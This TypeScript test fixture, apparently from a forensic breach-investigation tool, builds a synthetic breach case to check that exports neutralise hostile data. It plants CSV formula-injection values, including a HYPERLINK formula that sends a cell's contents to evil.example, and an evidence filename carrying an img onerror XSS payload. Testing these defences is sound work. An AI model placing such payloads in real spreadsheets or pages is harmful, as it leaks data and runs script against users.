import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { generateBreach } from '../../../shared/demo';
import { addEvidence } from '../../../shared/ingest/acquire';
import { reconstruct } from '../../../shared/reconstruct/analysis';
import { normalizeScope } from '../../../shared/scope/definition';
import { recordScope } from '../../../shared/scope/scopes';
import { createCase, type CaseHandle } from '../../../shared/store/case-folder';
import { parseCsv } from '../demo/helpers';

/** Values planted in the evidence that a spreadsheet would evaluate if written as they are. */
export const HOSTILE = {
  firstName: '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
  street: '+1-555 Injection Rd',
  city: '@SUM(1+1)',
} as const;
export const HOSTILE_EVIDENCE_NAME = '<img src=x onerror=alert(1)> & "notes".txt';

export interface BreachCase {
  handle: CaseHandle;
  actor: string;
}

/**
 * A tiny synthetic breach through the real pipeline (generate → acquire → scope → reconstruct), with every
 * CRM and shop record's first name, street and city replaced by formula-like text, and one evidence file with
 * an HTML-hostile name.
 */
export async function buildBreachCase(dir: string): Promise<BreachCase> {
  const generated = path.join(dir, 'generated');
  const result = await generateBreach({ outDir: generated, seed: 7, size: 'tiny' });
  const scenario = JSON.parse(readFileSync(result.scenarioPath, 'utf8')) as {
    discovery: string;
    attack: { window: { start: string; end: string }; attackerIps: string[] };
  };
  for (const file of result.files.filter((f) => f.format === 'salesforce-data-export' || f.format === 'shopify-customers')) {
    plantHostileValues(path.join(generated, file.path), file.encoding);
  }
  const hostileFile = path.join(generated, HOSTILE_EVIDENCE_NAME);
  writeFileSync(hostileFile, 'investigator notes\n');

  const actor = 'Dana Examiner';
  const handle = await createCase({ dir: path.join(dir, 'case'), name: 'Larkspur breach', investigator: actor, discovered: scenario.discovery.slice(0, 10) });
  const attackDays = new Set([scenario.attack.window.start.slice(0, 10), scenario.attack.window.end.slice(0, 10)]);
  const wanted = result.files.filter((f) => !f.path.startsWith('event-log-files/') || attackDays.has(f.path.slice('event-log-files/'.length, 'event-log-files/'.length + 10)));
  for (const file of wanted) await addEvidence(handle, { file: path.join(generated, file.path), actor });
  await addEvidence(handle, { file: hostileFile, actor, format: 'unparsed' });

  recordScope(handle.db, normalizeScope({ from: scenario.attack.window.start, to: scenario.attack.window.end, ips: scenario.attack.attackerIps }), actor);
  await reconstruct(handle, { residency: 'most-recent' }, actor);
  return { handle, actor };
}

function plantHostileValues(file: string, encoding: 'utf-8' | 'utf-8-bom' | 'iso-8859-1'): void {
  const charset = encoding === 'iso-8859-1' ? 'latin1' : 'utf8';
  const bom = encoding === 'utf-8-bom' ? '\uFEFF' : '';
  const [header, ...rows] = parseCsv(readFileSync(file, charset).slice(bom.length).replace(/\r\n/g, '\n'));
  const replacements = header!.map((name) =>
    /^first ?name$/i.test(name) ? HOSTILE.firstName : /(street|address1)$/i.test(name) ? HOSTILE.street : /city$/i.test(name) ? HOSTILE.city : null,
  );
  for (const row of rows) {
    replacements.forEach((value, i) => {
      if (value !== null && row[i]) row[i] = value;
    });
  }
  const quoted = (values: string[]) => values.map((v) => `"${v.replace(/"/g, '""')}"`).join(',');
  // One row with a single field, which the importer must reject (and the export must count).
  writeFileSync(file, bom + [header!, ...rows, ['=1+1 short row']].map(quoted).join('\n') + '\n', charset);
}
